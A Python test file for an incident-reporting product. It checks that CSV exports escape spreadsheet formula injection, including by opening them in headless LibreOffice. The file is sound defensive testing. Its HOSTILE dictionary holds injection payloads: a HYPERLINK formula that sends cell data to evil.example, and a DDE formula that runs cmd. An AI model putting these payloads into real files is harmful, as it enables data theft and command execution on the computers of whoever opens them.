"""Exports inert in a spreadsheet (issue #17, finding 4): a pushed ``external_id`` or
``address`` beginning with ``=`` (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) came out of
``incidents.csv`` as it was, and Swedish Excel evaluates it; place and organisation names
likewise. Every CSV the product writes goes through ``api.spreadsheets``, which prefixes
such a cell with a single quote (OWASP), and LibreOffice, a real spreadsheet, opens the
export with no formula in it, where the same rows written plainly hold formulas."""

from __future__ import annotations

import ast
import csv
import io
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pytest

from api.spreadsheets import inert
from tests.support.people import People
from tests.support.servers import Server

V1 = "/api/v1"
ROOT = Path(__file__).resolve().parents[2]
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?d="&A1;"Klicka här")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "space": " =1+1",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        *[(value, "'" + value) for value in HOSTILE.values()],
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),
        ("-12,5", "-12,5"),
        ("+46", "+46"),
        ("1e5", "1e5"),
        ("-1e-5", "-1e-5"),
        ("59,508900", "59,508900"),
        ("2026-11-20 21:30", "2026-11-20 21:30"),
        ("Bro centrum", "Bro centrum"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
        ("-12,5 kr", "'-12,5 kr"),
        ("--1", "'--1"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote_and_a_number_does_not(
    cell: str, written: str
) -> None:
    assert inert(cell) == written


def test_every_csv_of_the_product_is_written_through_the_one_writer() -> None:
    writers = []
    for path in sorted([*(ROOT / "api").rglob("*.py"), *(ROOT / "web").rglob("*.py")]):
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert [w.split(":")[0] for w in writers] == ["api/spreadsheets.py"], writers


# LibreOffice --------------------------------------------------------------------------------


def formulas_when_opened(data: bytes, folder: Path) -> tuple[list[str], list[str]]:
    """The formulas LibreOffice Calc finds in a CSV as Swedish Excel would get it (``;``,
    UTF-8), and the text of every cell: the file converted headless to flat ODS and read."""
    soffice = shutil.which("soffice")
    assert soffice, "soffice is missing: make test installs libreoffice-calc-nogui"
    folder.mkdir(parents=True, exist_ok=True)
    source = folder / "handelser.csv"
    source.write_bytes(data)
    # A profile of its own: parallel runs would otherwise wait on one another's lock.
    profile = (folder / "profile").as_uri()
    done = subprocess.run(
        [
            soffice, f"-env:UserInstallation={profile}", "--headless", "--norestore",
            "--infilter=CSV:59,34,76,1", "--convert-to", "fods", "--outdir", str(folder),
            str(source),
        ],
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    converted = folder / "handelser.fods"
    assert converted.exists(), done.stdout + done.stderr
    tree = ElementTree.parse(converted)
    cells = list(tree.iter(f"{{{TABLE}}}table-cell"))
    formulas = [c.get(f"{{{TABLE}}}formula") or "" for c in cells if c.get(f"{{{TABLE}}}formula")]
    texts = ["".join(p.itertext()) for c in cells for p in c.iter(f"{{{TEXT}}}p")]
    return formulas, texts


def plainly_written(export: bytes) -> bytes:
    """The export's rows written by the standard library's own writer, quotes taken off:
    what the product wrote before."""
    rows = csv.reader(io.StringIO(export.decode("utf-8-sig"), newline=""), delimiter=";")
    out = io.StringIO()
    plain = csv.writer(out, delimiter=";", lineterminator="\r\n")
    plain.writerows([cell.removeprefix("'") for cell in row] for row in rows)
    return b"\xef\xbb\xbf" + out.getvalue().encode()


def test_the_incidents_export_opens_in_libreoffice_without_a_formula(
    server: Server, people: People, tmp_path: Path
) -> None:
    with server.client(people["tokens"]["admin"]) as admin:
        created = admin.post(
            f"{V1}/service-tokens",
            json={
                "source": "embrace",
                "organisation_id": people["organisations"]["Rapid Säkerhet"]["id"],
            },
        )
        token = created.json()["token"]
        places = admin.get(f"{V1}/places", params={"limit": 200}).json()["items"]
        finnsta = next(p for p in places if p["name"] == "Finnsta")
        renamed = admin.patch(f"{V1}/places/{finnsta['id']}", json={"name": HOSTILE["dde"]})
        assert renamed.status_code == 200, renamed.text
        organisation = people["organisations"]["Rapid Säkerhet"]["id"]
        renamed = admin.patch(f"{V1}/organisations/{organisation}", json={"name": "=1+1"})
        assert renamed.status_code == 200, renamed.text
    items = [
        {
            "external_id": value if name != "return" else "\r=1+1",
            "address": value,
            "category": "Skadegörelse",
            "occurred_from": "2026-03-01 22:00",
            "area": "Bro",
            "place": HOSTILE["dde"],
        }
        for name, value in HOSTILE.items()
    ]
    with server.client(token) as tool:
        pushed = tool.post(
            f"{V1}/integrations/embrace/incidents:batch", json={"incidents": items}
        ).json()
    stored = [i for i in pushed["items"] if i["result"] == "created"]
    assert len(stored) >= 6, pushed
    with server.client(people["tokens"]["admin"]) as admin:
        export = admin.get(f"{V1}/incidents.csv").content

    formulas, texts = formulas_when_opened(export, tmp_path / "product")
    assert formulas == [], formulas
    # The hostile text is there, as text.
    assert "'" + HOSTILE["link"] in texts and "'" + HOSTILE["dde"] in texts
    assert "'=1+1" in texts

    # The control: the same rows written plainly are formulas to LibreOffice, so the
    # check above would see them.
    formulas, _texts = formulas_when_opened(plainly_written(export), tmp_path / "plain")
    assert any("HYPERLINK" in f for f in formulas), formulas
    assert any("cmd" in f for f in formulas), formulas
